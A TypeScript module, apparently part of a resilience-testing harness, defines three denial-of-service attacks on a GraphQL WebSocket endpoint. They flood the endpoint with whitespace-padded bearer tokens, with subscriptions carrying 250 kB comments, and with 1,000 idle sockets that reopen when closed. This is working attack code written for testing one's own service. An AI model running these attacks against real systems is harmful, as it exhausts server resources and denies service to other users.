// Attacks over WebSockets.
import { setTimeout as pause } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { createHttpCaller } from '../http-caller.ts'
import { createTally } from '../tally.ts'
import type { Attack } from '../target.ts'

interface SocketAttack {
  url: string
  address: string
  sockets: number
  payload: object
  /** Milliseconds between two messages on one socket. */
  every: number
  message?: (number: number) => object
}

/** Opens sockets and sends messages on each. Closed sockets are opened again. */
async function onSockets(options: SocketAttack, signal: AbortSignal) {
  const { url, address, sockets, payload, every, message } = options
  const { tally, sent, answered } = createTally()
  let number = 0
  const attackOnce = () =>
    new Promise<void>((resolve) => {
      sent()
      const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
        localAddress: address,
        perMessageDeflate: false,
      })
      const end = () => socket.terminate()
      signal.addEventListener('abort', end, { once: true })
      let timer: NodeJS.Timeout | undefined
      socket.on('open', () => socket.send(JSON.stringify({ type: 'connection_init', payload })))
      socket.on('message', (data) => {
        const { type } = JSON.parse(String(data)) as { type: string }
        if (type === 'ping') socket.send('{"type":"pong"}')
        if (type !== 'connection_ack') return answered(type)
        timer = setInterval(() => {
          if (!message || socket.bufferedAmount > 10_000_000) return
          sent()
          socket.send(JSON.stringify(message(number++)))
        }, every)
      })
      socket.on('error', (error) => answered((error as { code?: string }).code ?? error.message))
      socket.on('close', (code) => {
        clearInterval(timer)
        signal.removeEventListener('abort', end)
        answered(`closed ${code}`)
        resolve()
      })
    })
  const loop = async () => {
    while (!signal.aborted) {
      await attackOnce()
      await pause(100)
    }
  }
  await Promise.all(Array.from({ length: sockets }, loop))
  return tally
}

const password = 'a password of the attacker'

/** Signs up, and returns the access token. */
async function signUp(url: string, address: string): Promise<string> {
  const caller = createHttpCaller(address, 1)
  const query = `mutation($input: SignUpInput!) { signUp(input: $input) { ... on Session { accessToken } } }`
  const input = { email: `attacker-${Date.now()}@example.com`, password }
  try {
    const { body } = await caller.post(`${url}/graphql`, JSON.stringify({ query, variables: { input } }))
    return JSON.parse(body).data.signUp.accessToken as string
  } finally {
    caller.close()
  }
}

export const paddedTokens: Attack = {
  name: 'padded tokens',
  description: 'one WebSocket, 120 pings per second, each with the same token after a different number of blanks',
  async run({ urls, address }, signal) {
    const token = await signUp(urls.router, address)
    const message = (number: number) => ({
      type: 'ping',
      payload: { authorization: `Bearer${' '.repeat(200_000 + number)}${token}` },
    })
    const payload = { authorization: `Bearer ${token}` }
    return onSockets({ url: urls.router, address, sockets: 1, payload, every: 8, message }, signal)
  },
}

const comment = `# ${'x'.repeat(250_000)}\n`

export const commentedSubscriptions: Attack = {
  name: 'long subscriptions',
  description: 'twenty WebSockets, 60 subscriptions per second in total, each with 250 kB of comments',
  run({ urls, address, productIds }, signal) {
    const query = `${comment}subscription($ids: [ID!]!) { productAvailabilityChanged(productIds: $ids) { id } }`
    const message = (number: number) => ({
      id: String(number),
      type: 'subscribe',
      payload: { query: `${query}# ${number}`, variables: { ids: [productIds[number % productIds.length]] } },
    })
    return onSockets({ url: urls.router, address, sockets: 20, payload: {}, every: 333, message }, signal)
  },
}

export const idleSockets: Attack = {
  name: 'idle sockets',
  description: '1,000 idle WebSockets, opened again when they are closed',
  run: ({ urls, address }, signal) =>
    onSockets({ url: urls.router, address, sockets: 1_000, payload: {}, every: 60_000 }, signal),
}
